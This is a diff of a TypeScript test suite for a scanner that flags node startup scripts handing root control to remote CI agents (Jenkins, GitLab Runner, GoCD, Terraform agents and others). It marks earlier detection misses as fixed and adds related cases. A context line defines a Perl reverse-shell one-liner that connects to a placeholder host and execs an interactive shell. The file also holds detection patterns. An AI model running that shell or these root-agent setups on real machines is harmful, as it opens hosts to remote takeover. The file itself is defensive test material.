@@ -21,10 +21,12 @@ import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeB
 const RELAY = /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server/;
 /** What remote management of the node is refused as. */
 const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|cannot read/i;
+/** What a java command starting a CI agent (or reading an argument file the pack cannot) is refused as. */
+const JAVA_AGENT = /builds its java agent takes/;
 const PERL_SHELL = `$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
 
 const insecure: NodeCase[] = [
-    // MISS: JetBrains TeamCity docs "Build Agent Configuration" (<Agent Home>/conf/buildAgent.properties `serverUrl=`) and
+    // Was a MISS (fixed in round 65): JetBrains TeamCity docs "Build Agent Configuration" (<Agent Home>/conf/buildAgent.properties `serverUrl=`) and
     // "Configuring Build Agent Startup Properties" (`<Agent Home>/bin/agent.sh start` starts the launcher and agent): the
     // agent runs the TeamCity server's build steps (command-line runner) on the host as its user, root here, so whoever
     // can edit a build configuration runs commands as root on the node; REMOTE_AGENTS (userData.ts) has no TeamCity entry
@@ -43,9 +45,8 @@ const insecure: NodeCase[] = [
             "/opt/buildAgent/bin/agent.sh start",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: GoCD docs "Installing GoCD agent on Linux" (go-agent package, GO_SERVER_URL in /usr/share/go-agent/wrapper-config/
+    // Was a MISS (fixed in round 65): GoCD docs "Installing GoCD agent on Linux" (go-agent package, GO_SERVER_URL in /usr/share/go-agent/wrapper-config/
     // wrapper-properties.conf or the environment, `go-agent start`): the agent runs the GoCD server's pipeline job tasks (exec
     // tasks) on the host as its user, root here; REMOTE_AGENTS (userData.ts) has no go-agent entry. Accepted.
     devNodeCase(
@@ -54,9 +55,8 @@ const insecure: NodeCase[] = [
             "GO_SERVER_URL=https://gocd.example.com/go /usr/share/go-agent/bin/go-agent start",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: HashiCorp docs "HCP Terraform agents: Install and run agents" (the tfc-agent binary with TFC_AGENT_TOKEN polls HCP
+    // Was a MISS (fixed in round 65): HashiCorp docs "HCP Terraform agents: Install and run agents" (the tfc-agent binary with TFC_AGENT_TOKEN polls HCP
     // Terraform and executes plans/applies of the pool's workspaces locally): whoever can queue a run in such a workspace
     // runs Terraform code (local-exec, the external data source, any provider binary) as root on the node, with the node
     // role's credentials; REMOTE_AGENTS (userData.ts) has no tfc-agent entry. Accepted.
@@ -66,9 +66,8 @@ const insecure: NodeCase[] = [
             "TFC_AGENT_TOKEN=EXAMPLEONLY TFC_AGENT_NAME=node1 nohup /usr/local/bin/tfc-agent &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Octopus Deploy docs "Linux Tentacle" (`Tentacle create-instance`, `Tentacle register-with --server ... --apiKey ...
+    // Was a MISS (fixed in round 65): Octopus Deploy docs "Linux Tentacle" (`Tentacle create-instance`, `Tentacle register-with --server ... --apiKey ...
     // --comms-style TentacleActive` (polling), `Tentacle service --install --start`): the Octopus server's deployments
     // run their scripts on the host as the Tentacle's user, root here; REMOTE_AGENTS (userData.ts) has no Tentacle entry.
     // Accepted.
@@ -80,9 +79,8 @@ const insecure: NodeCase[] = [
             "/opt/octopus/tentacle/Tentacle service --install --start --instance Tentacle",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Atlassian docs "Set up runners for Linux Shell" (`./start.sh --accountUuid ... --runnerUuid ... --OAuthClientId ...
+    // Was a MISS (fixed in round 65): Atlassian docs "Set up runners for Linux Shell" (`./start.sh --accountUuid ... --runnerUuid ... --OAuthClientId ...
     // --OAuthClientSecret ... --runtime linux-shell --workingDirectory ../temp`: pipeline steps run directly on the host
     // as the runner's user, root here); REMOTE_AGENTS (userData.ts) has no entry for the Bitbucket runner. Accepted.
     devNodeCase(
@@ -91,9 +89,8 @@ const insecure: NodeCase[] = [
             "cd /opt/atlassian-bitbucket-pipelines-runner/bin && nohup ./start.sh --accountUuid '{11111111-2222-3333-4444-555555555555}' --runnerUuid '{11111111-2222-3333-4444-666666666666}' --OAuthClientId EXAMPLE --OAuthClientSecret EXAMPLEONLY --runtime linux-shell --workingDirectory ../temp &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: CircleCI docs "Machine runner 3.0 installation on Linux" (`circleci-runner machine --config
+    // Was a MISS (fixed in round 65): CircleCI docs "Machine runner 3.0 installation on Linux" (`circleci-runner machine --config
     // /etc/circleci-runner/circleci-runner-config.yaml` with `api.auth_token`): the runner executes the organisation's
     // jobs on the host as its user (root here, no `runner.` user drop configured); REMOTE_AGENTS (userData.ts) has no
     // circleci-runner (or circleci-launch-agent) entry. Accepted.
@@ -112,9 +109,8 @@ const insecure: NodeCase[] = [
             "nohup circleci-runner machine --config /etc/circleci-runner/circleci-runner-config.yaml &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Drone docs "Docker Runner" (DRONE_RPC_HOST/DRONE_RPC_SECRET; "Host Volumes" and `privileged: true` steps are
+    // Was a MISS (fixed in round 65): Drone docs "Docker Runner" (DRONE_RPC_HOST/DRONE_RPC_SECRET; "Host Volumes" and `privileged: true` steps are
     // allowed for trusted repositories): a trusted repository's pipeline mounts / or runs privileged on the host, root
     // on the node; REMOTE_AGENTS (userData.ts) comments say a container executor is "its configuration's ... unread: fail
     // closed" (gitlab-runner's docker executor is refused), but drone-runner-docker has no entry (only drone-runner-exec).
@@ -125,9 +121,8 @@ const insecure: NodeCase[] = [
             "DRONE_RPC_PROTO=https DRONE_RPC_HOST=drone.example.com DRONE_RPC_SECRET=EXAMPLEONLY nohup drone-runner-docker &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: GitLab Runner docs "Install GitLab Runner manually on GNU/Linux" (the binary is downloaded as
+    // Was a MISS (fixed in round 65): GitLab Runner docs "Install GitLab Runner manually on GNU/Linux" (the binary is downloaded as
     // gitlab-runner-linux-amd64 from gitlab-runner-downloads.s3.amazonaws.com; the program is the same whatever its file
     // name): `register --executor shell` + `run --user root` runs the projects' CI jobs as root; REMOTE_AGENTS matches the
     // program name /^gitlab-(runner|ci-multi-runner)$/ exactly, so the same runner under its downloaded name is accepted.
@@ -141,9 +136,8 @@ const insecure: NodeCase[] = [
             "nohup /usr/local/bin/gitlab-runner-linux-amd64 run --user root &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Jenkins docs "Using Jenkins agents" (`java -jar agent.jar -url <controller> -secret <secret> -name <node> -workDir
+    // Was a MISS (fixed in round 65): Jenkins docs "Using Jenkins agents" (`java -jar agent.jar -url <controller> -secret <secret> -name <node> -workDir
     // ...`; the jar is whatever file the operator saved from <controller>/jnlpJars/agent.jar): the controller's builds run
     // on the host as root; REMOTE_AGENTS java matches the jar basename /^(agent|slave|remoting|swarm-client)([-._]..)?\.jar$/
     // only, so jenkins-agent.jar with the agent's own -url/-secret options is accepted.
@@ -153,9 +147,8 @@ const insecure: NodeCase[] = [
             "nohup java -jar /opt/jenkins/jenkins-agent.jar -url https://jenkins.example.com/ -secret EXAMPLEONLY -name node1 -workDir /var/lib/jenkins &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: java(1) "java Command-Line Argument Files" (`java @argfile`: the launcher expands the file's words in place, so
+    // Was a MISS (fixed in round 65): java(1) "java Command-Line Argument Files" (`java @argfile`: the launcher expands the file's words in place, so
     // `-jar /opt/jenkins/agent.jar -url ... -secret ...` in the file is that command line): the Jenkins agent runs the
     // controller's builds as root; REMOTE_AGENTS java reads only the words in user data, not the argument file user data
     // wrote (an unread @file should fail closed). Accepted.
@@ -173,7 +166,6 @@ const insecure: NodeCase[] = [
             "nohup java @/etc/jenkins/agent.args &",
         ]),
         REMOTE,
-        true,
     ),
     // MISS: Puppet docs "puppet apply" (`-e, --execute`; Puppet's options are parsed by Ruby OptionParser, which takes a short
     // option's argument glued to it: `-eCODE` is `-e CODE`): the agent started by the service resource, whose Puppet server
@@ -322,6 +314,51 @@ const insecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
+    // Round 65 neighbours: the same agents under other names and forms.
+    devNodeCase(
+        "tfc-agent_1.15.0_linux_amd64 (a downloaded tfc-agent under its release name)",
+        devNodeScript("dev-tfc-agent-release-name-nodes", [
+            "TFC_AGENT_TOKEN=EXAMPLEONLY nohup /usr/local/bin/tfc-agent_1.15.0_linux_amd64 &",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "java @/etc/jenkins/agent.args where user data did not write the file (unread: fail closed)",
+        devNodeScript("dev-java-argfile-unwritten-nodes", ["nohup java @/etc/jenkins/agent.args &"]),
+        JAVA_AGENT,
+    ),
+    devNodeCase(
+        "java -Xmx1g @/etc/jenkins/agent.args with a comment and a quoted jar (the agent in the argument file)",
+        devNodeScript("dev-java-argfile-quoted-nodes", [
+            "mkdir -p /etc/jenkins",
+            "cat > /etc/jenkins/agent.args <<'A'",
+            "# JVM settings, then the agent",
+            `-Dfile.encoding="UTF-8"`,
+            `-jar "/opt/jenkins/remoting.jar" -url https://jenkins.example.com/`,
+            "A",
+            "nohup java -Xmx1g @/etc/jenkins/agent.args &",
+        ]),
+        JAVA_AGENT,
+    ),
+    devNodeCase(
+        "java -jar /opt/bitbucket/runner.jar --runnerUuid ... (the Bitbucket runner's jar)",
+        devNodeScript("dev-bitbucket-runner-jar-nodes", [
+            "nohup java -jar /opt/bitbucket/runner.jar --accountUuid '{1}' --runnerUuid '{2}' --OAuthClientId X --OAuthClientSecret Y --runtime linux-shell &",
+        ]),
+        JAVA_AGENT,
+    ),
+    devNodeCase(
+        "systemctl enable --now go-agent (the packaged unit)",
+        devNodeScript("dev-ci-agent-units-nodes", ["systemctl enable --now go-agent"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "Tentacle service --install --start alone (the service defaults to root)",
+        devNodeScript("dev-tentacle-service-only-nodes", [
+            "/opt/octopus/tentacle/Tentacle service --install --start --instance Tentacle",
+        ]),
+        REMOTE,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -352,6 +389,38 @@ const secure: NodeCase[] = [
     devNodeCase(
         "DISPLAY=:1 xterm -e bash (a local display)",
         devNodeScript("dev-xterm-env-local-display-nodes", ["DISPLAY=:1 nohup xterm -e /bin/bash &"]),
+    ),
+    // Round 65 neighbours of the CI/job agents: a program that only prints or stops, a java argument file user data
+    // wrote for a loopback app, an unrelated start script.
+    devNodeCase(
+        "java @/etc/app/app.args (a loopback app's argument file user data wrote)",
+        devNodeScript("dev-java-argfile-app-local-nodes", [
+            "mkdir -p /etc/app",
+            "cat > /etc/app/app.args <<'A'",
+            "# the app",
+            "-Xmx512m",
+            "-jar /opt/app/app.jar",
+            "A",
+            "nohup java @/etc/app/app.args --server.address=127.0.0.1 &",
+        ]),
+    ),
+    devNodeCase(
+        "gitlab-runner-linux-amd64 --version (the downloaded binary printing its version)",
+        devNodeScript("dev-gitlab-runner-binary-version-nodes", [
+            "/usr/local/bin/gitlab-runner-linux-amd64 --version > /tmp/v",
+        ]),
+    ),
+    devNodeCase(
+        "tfc-agent -h, go-agent stop, Tentacle service --stop (print or stop only)",
+        devNodeScript("dev-ci-agents-print-stop-nodes", [
+            "/usr/local/bin/tfc-agent -h > /tmp/h",
+            "/usr/share/go-agent/bin/go-agent stop",
+            "/opt/octopus/tentacle/Tentacle service --stop --instance Tentacle",
+        ]),
+    ),
+    devNodeCase(
+        "/opt/app/bin/start.sh --port 8080 (an app's own start script, no runner options)",
+        devNodeScript("dev-app-start-sh-nodes", ["mkdir -p /opt/app/bin", "/opt/app/bin/start.sh --port 8080 || true"]),
     ),
     devNodeCase(
         "buildkite-agent --version",
